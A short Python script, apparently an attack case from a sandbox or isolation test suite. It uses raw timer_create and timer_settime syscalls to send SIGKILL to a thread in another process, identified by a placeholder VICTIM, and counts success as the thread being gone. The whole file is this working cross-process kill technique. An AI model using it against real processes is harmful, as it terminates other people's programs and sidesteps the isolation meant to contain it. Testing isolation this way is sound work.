"""Have a timer signal another process's thread. Success: it is gone."""

import ctypes
import struct


def attack():
    event = struct.pack("qii", 0, 9, 4) + struct.pack("i", VICTIM) + bytes(44)
    number = ctypes.c_int()
    if ctypes.CDLL(None).syscall(222, 1, event, ctypes.byref(number)) == 0:
        ctypes.CDLL(None).syscall(
            223, number, 0, struct.pack("4q", 0, 0, 0, 1000), None
        )
